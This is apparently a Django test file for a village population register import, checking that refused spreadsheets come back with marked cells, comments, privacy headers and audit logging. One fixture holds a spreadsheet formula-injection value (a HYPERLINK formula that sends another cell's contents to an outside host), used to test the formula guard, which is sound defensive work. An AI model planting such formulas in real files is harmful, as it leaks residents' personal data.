"""A refused register file comes back as the uploaded sheet with each faulty cell filled and a
comment giving the reason (warnings in another colour), values as text behind the formula
guard, and a summary sheet; the download is personal data: admins of the village only,
never stored by a browser, written to the audit log."""

from __future__ import annotations

import io
import re
import zipfile
from xml.etree import ElementTree

from django.urls import reverse
from python_calamine import CalamineWorkbook

from balai.audit.models import AuditEntry
from balai.imports.marked import ERROR_FILL, WARNING_FILL
from balai.imports.models import ImportJob
from balai.population.import_rows import COLUMNS
from balai.population.tests.conftest import family, upload, xlsx_bytes


def _upload(client, content: bytes) -> ImportJob:
    url = reverse("population_dashboard:imports", kwargs={"slug": "dagan"})
    client.post(url, {"file": upload(content)}, follow=True)
    return ImportJob.objects.first()


def _url(name: str, job: ImportJob, slug: str = "dagan") -> str:
    return reverse(f"population_dashboard:{name}", kwargs={"slug": slug, "pk": job.pk})


def cell(column: str, row: int) -> str:
    return f"{chr(ord('A') + COLUMNS.index(column))}{row}"


def fills(content: bytes, part: str = "xl/worksheets/sheet1.xml") -> dict[str, str]:
    """Cell reference → its fill colour (RRGGBB), for the filled cells of a sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        styles = archive.read("xl/styles.xml").decode()
        sheet = archive.read(part).decode()
    colours = [
        (m.group(1) if m else "")
        for m in (
            re.search(r'<fgColor rgb="FF([0-9A-F]{6})"', f)
            for f in re.findall(r"<fill>.*?</fill>", styles)
        )
    ]
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles).group(1)
    fill_of = [int(f) for f in re.findall(r'<xf [^>]*fillId="(\d+)"', xfs)]
    found = {}
    for ref, style in re.findall(r'<c r="([A-Z]+\d+)" s="(\d+)"', sheet):
        colour = colours[fill_of[int(style)]]
        if colour:
            found[ref] = colour
    return found


def comments(content: bytes, part: str = "xl/comments1.xml") -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read(part).decode()
    return {
        ref: " ".join(re.findall(r"<t[^>]*>([^<]*)</t>", body))
        for ref, body in re.findall(r'<comment ref="([A-Z]+\d+)"[^>]*>(.*?)</comment>', xml, re.S)
    }


def _bad_file() -> bytes:
    rows = family(1) + family(2) + family(3) + family(4)
    rows[1] = {**rows[1], "nik": "0"}  # a warning: no NIK yet
    rows[4] = {**rows[4], "nik": "33030955"}  # family 2: too short
    rows[6] = {**rows[6], "sex": "X"}  # family 3: unknown code
    rows[9] = {**rows[9], "nama": '=HYPERLINK("http://x/?"&G11)'}  # text, but never a formula
    return xlsx_bytes(rows)


def test_the_marked_copy_fills_and_comments_each_faulty_cell(admin_client, dagan):
    job = _upload(admin_client, _bad_file())
    assert job.status == ImportJob.Status.REFUSED and job.report["marked"]
    page = admin_client.get(_url("import", job)).content.decode()
    assert "Unduh berkas dengan sel yang salah ditandai" in page
    response = admin_client.get(_url("import_marked", job))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    marked = fills(content)
    assert marked[cell("nik", 6)] == ERROR_FILL.lstrip("#").upper()
    assert marked[cell("sex", 8)] == ERROR_FILL.lstrip("#").upper()
    assert marked[cell("nik", 3)] == WARNING_FILL.lstrip("#").upper()
    assert cell("nama", 8) not in marked and cell("nik", 2) not in marked
    notes = comments(content)
    assert "Salah:" in notes[cell("nik", 6)] and "16 angka" in notes[cell("nik", 6)]
    assert "“X” bukan kode" in notes[cell("sex", 8)].replace("&quot;", "“")
    assert notes[cell("nik", 3)].startswith("Periksa:")
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.sheet_names == ["Sheet1", "Ringkasan pemeriksaan"]
    rows = book.get_sheet_by_name("Sheet1").to_python()
    assert rows[0] == list(COLUMNS) and len(rows) == 13
    assert rows[5][COLUMNS.index("nik")] == "33030955"  # same row, value as typed
    assert rows[10][COLUMNS.index("nama")].startswith("'=HYPERLINK")  # formula guard
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        ElementTree.fromstring(sheet)  # well-formed, rows spliced in
        assert b"<f>" not in sheet and b'<dimension ref="A1:AQ13"/>' in sheet
    summary = " ".join(
        str(c) for r in book.get_sheet_by_name("Ringkasan pemeriksaan").to_python() for c in r
    )
    assert "Baris salah" in summary and "Merah" in summary


def test_the_marked_copy_uploaded_again_reads_only_its_data(admin_client, dagan):
    job = _upload(admin_client, _bad_file())
    content = b"".join(admin_client.get(_url("import_marked", job)).streaming_content)
    again = _upload(admin_client, content)
    assert again.pk != job.pk and again.report["rows"] == 12  # the summary sheet is skipped
    assert {n for n, _c, _r in again.report["errors"]} == {6, 8}


def test_the_download_is_private_and_logged(admin_client, dagan):
    job = _upload(admin_client, _bad_file())
    response = admin_client.get(_url("import_marked", job))
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment;")
    entry = AuditEntry.objects.get(action="population.import_download")
    assert entry.details == {"file": "bertanda"} and entry.village == dagan


def test_another_villages_admin_gets_404(client, charlie, alice, dagan, bojongsari):
    client.force_login(alice)
    job = _upload(client, _bad_file())
    client.force_login(charlie)
    for slug in ("dagan", "bojongsari"):
        for name in ("import_marked", "import_held", "import_partial"):
            assert client.get(_url(name, job, slug)).status_code == 404, (slug, name)
    assert not AuditEntry.objects.filter(action="population.import_download").exists()


def test_a_clean_file_has_no_marked_copy(admin_client, dagan):
    job = _upload(admin_client, xlsx_bytes(family(1)))
    assert job.status == ImportJob.Status.CHECKED and "marked" not in job.report
    response = admin_client.get(_url("import_marked", job))
    assert response.status_code == 302 and response["Location"] == _url("import", job)


def test_a_template_file_is_marked_under_its_own_headers(admin_client, dagan):
    from balai.population.import_headers import header

    rows = family(1)
    rows[2] = {**rows[2], "sex": "X"}
    headers = [header(c) for c in COLUMNS]
    content = xlsx_bytes(
        [dict(zip(headers, (r.get(c, "") for c in COLUMNS), strict=True)) for r in rows],
        columns=headers,
    )
    job = _upload(admin_client, content)
    marked = b"".join(admin_client.get(_url("import_marked", job)).streaming_content)
    assert cell("sex", 4) in fills(marked)
    summary = CalamineWorkbook.from_filelike(io.BytesIO(marked)).get_sheet_by_name(
        "Ringkasan pemeriksaan"
    )
    assert ["4", "Jenis kelamin * (pilih)"] in [r[1:3] for r in summary.to_python()]


def test_a_nik_stored_as_a_number_is_still_refused_in_the_marked_copy(admin_client, dagan):
    """Excel keeps 15 digits of a number: a NIK typed as one has lost its last digit, and the
    importer refuses it. The marked copy keeps it a number, so fixing the file is still needed."""
    rows = family(1) + family(2)
    rows[4] = {**rows[4], "nik": "33030955"}  # another error, so the file is refused
    content = xlsx_bytes(rows, numbers={(2, "nik"): 3303091203750001.0})
    job = _upload(admin_client, content)
    refused = {(n, c) for n, c, _r in job.report["errors"]}
    assert (3, "nik") in refused  # sheet row 3 (header on row 1)
    marked = b"".join(admin_client.get(_url("import_marked", job)).streaming_content)
    again = _upload(admin_client, marked)
    assert (3, "nik") in {(n, c) for n, c, _r in again.report["errors"]}


def test_comments_stop_after_the_listed_number_and_the_summary_says_so(
    admin_client, dagan, monkeypatch
):
    monkeypatch.setattr("balai.imports.marked.LISTED", 2)
    job = _upload(admin_client, _bad_file())
    content = b"".join(admin_client.get(_url("import_marked", job)).streaming_content)
    assert len(comments(content)) == 2
    assert len(fills(content)) == 3  # every marked cell is still filled
    summary = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(
        "Ringkasan pemeriksaan"
    )
    assert "Catatan hanya ada pada 2 sel" in " ".join(
        str(c) for r in summary.to_python() for c in r
    )
